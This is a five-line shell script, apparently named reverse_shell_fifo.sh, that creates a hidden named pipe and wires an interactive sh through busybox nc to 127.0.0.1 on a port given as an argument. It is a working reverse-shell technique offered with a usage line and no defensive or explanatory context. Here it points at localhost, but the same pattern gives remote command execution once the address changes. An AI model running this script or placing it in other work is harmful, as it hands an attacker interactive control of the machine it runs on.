# The shell talks to pipes; nc carries them. usage: sh reverse_shell_fifo.sh PORT
pipe=./.pipe
mkfifo "$pipe"
cat "$pipe" | sh -i 2>&1 | busybox nc 127.0.0.1 "$1" > "$pipe"
rm -f "$pipe"
